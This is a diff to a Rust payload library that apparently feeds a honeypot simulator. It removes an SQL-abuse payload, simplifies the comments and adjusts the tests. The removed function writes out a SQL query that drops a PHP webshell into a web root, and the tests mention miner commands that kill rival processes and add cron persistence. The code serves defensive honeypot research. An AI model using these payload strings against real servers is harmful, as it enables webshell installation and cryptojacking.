@@ -1,9 +1,9 @@
 //! The payload library.
 //!
 //! Payload *identity* (the normalized command string) is what the
-//! honeypot's clustering groups by; payload *kind* determines the
-//! simulated post-exploitation behaviour (resource usage, persistence)
-//! that drives the resource monitor.
+//! honeypot's clustering groups by. The honeypot's resource monitor
+//! reads the command too (`honeypot::resource::load_of`); the *kind*
+//! only labels the family, and picks the image a Docker attack runs.
 
 /// Behavioural class of a payload.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
@@ -19,27 +19,6 @@ pub enum PayloadKind {
     Downloader,
     /// CMS installation hijack followed by webshell deployment.
     InstallHijack,
-    /// Data-oriented SQL abuse.
-    SqlAbuse,
-}
-
-impl PayloadKind {
-    /// Simulated CPU-utilisation fraction once the payload runs — input
-    /// to the honeypot resource monitor.
-    pub fn cpu_load(self) -> f64 {
-        match self {
-            PayloadKind::Cryptominer | PayloadKind::Kinsing => 0.98,
-            PayloadKind::Downloader => 0.25,
-            PayloadKind::InstallHijack => 0.10,
-            PayloadKind::SqlAbuse => 0.15,
-            PayloadKind::Vigilante => 0.0,
-        }
-    }
-
-    /// Whether the payload persists across restarts (cronjob).
-    pub fn persists(self) -> bool {
-        matches!(self, PayloadKind::Cryptominer | PayloadKind::Kinsing)
-    }
 }
 
 /// A concrete payload.
@@ -103,17 +82,6 @@ impl Payload {
             kind: PayloadKind::InstallHijack,
         }
     }
-
-    /// SQL-level abuse through database control panels.
-    pub fn sql_abuse(variant: u32) -> Payload {
-        Payload {
-            name: format!("sql-abuse-v{variant}"),
-            command: format!(
-                "SELECT '<?php system($_GET[{variant}]);' INTO OUTFILE '/var/www/html/s{variant}.php'"
-            ),
-            kind: PayloadKind::SqlAbuse,
-        }
-    }
 }
 
 #[cfg(test)]
@@ -134,15 +102,13 @@ mod tests {
         let p = Payload::monero_miner(3);
         assert!(p.command.contains("pkill -f kinsing"));
         assert!(p.command.contains("crontab"));
-        assert!(p.kind.persists());
-        assert!(p.kind.cpu_load() > 0.9);
+        assert_eq!(p.kind, PayloadKind::Cryptominer);
     }
 
     #[test]
     fn vigilante_is_harmless_to_resources() {
         let p = Payload::vigilante();
-        assert_eq!(p.kind.cpu_load(), 0.0);
-        assert!(!p.kind.persists());
+        assert_eq!(p.kind, PayloadKind::Vigilante);
         assert_eq!(p.command, "shutdown");
     }
 
@@ -152,6 +118,5 @@ mod tests {
         assert_eq!(Payload::kinsing(1).kind, PayloadKind::Kinsing);
         assert_eq!(Payload::downloader(1).kind, PayloadKind::Downloader);
         assert_eq!(Payload::install_hijack(1).kind, PayloadKind::InstallHijack);
-        assert_eq!(Payload::sql_abuse(1).kind, PayloadKind::SqlAbuse);
     }
 }
